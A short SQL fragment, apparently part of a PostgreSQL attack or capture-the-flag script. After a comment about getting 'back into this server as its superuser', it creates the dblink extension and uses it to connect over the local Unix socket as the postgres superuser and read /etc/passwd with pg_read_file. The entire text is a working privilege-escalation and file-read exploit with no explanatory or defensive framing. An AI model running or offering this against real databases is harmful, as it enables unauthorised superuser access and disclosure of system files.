-- Back into this server as its superuser, over its own socket.
call tries($q$create extension dblink$q$);
call tries($q$select tells((select x from dblink('host=' || current_setting('unix_socket_directories') || ' user=postgres dbname=shop', 'select pg_read_file(''/etc/passwd'')') as t (x text)))$q$);
